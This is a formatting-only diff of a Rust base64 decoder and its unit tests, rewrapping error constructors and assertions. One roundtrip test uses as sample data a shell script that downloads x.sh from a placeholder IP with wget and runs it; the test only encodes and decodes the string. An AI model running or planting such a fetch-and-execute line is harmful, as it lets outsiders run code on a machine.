@@ -87,7 +87,12 @@ pub fn decode(input: &str) -> Result<Vec<u8>, DecodeError> {
         }
         match decode_digit(b) {
             Some(d) => digits.push(d),
-            None => return Err(DecodeError::InvalidByte { position: i, byte: b }),
+            None => {
+                return Err(DecodeError::InvalidByte {
+                    position: i,
+                    byte: b,
+                })
+            }
         }
     }
     if pad > 2 || (pad > 0 && digits.len().is_multiple_of(4)) {
@@ -155,7 +160,10 @@ mod tests {
     fn rejects_invalid_byte() {
         assert!(matches!(
             decode("Zm9*"),
-            Err(DecodeError::InvalidByte { position: 3, byte: b'*' })
+            Err(DecodeError::InvalidByte {
+                position: 3,
+                byte: b'*'
+            })
         ));
     }
 
@@ -179,6 +187,9 @@ mod tests {
     #[test]
     fn shell_script_roundtrip() {
         let script = "#!/bin/sh\ncd /tmp && wget http://203.0.113.7/x.sh && sh x.sh\n";
-        assert_eq!(decode(&encode(script.as_bytes())).unwrap(), script.as_bytes());
+        assert_eq!(
+            decode(&encode(script.as_bytes())).unwrap(),
+            script.as_bytes()
+        );
     }
 }
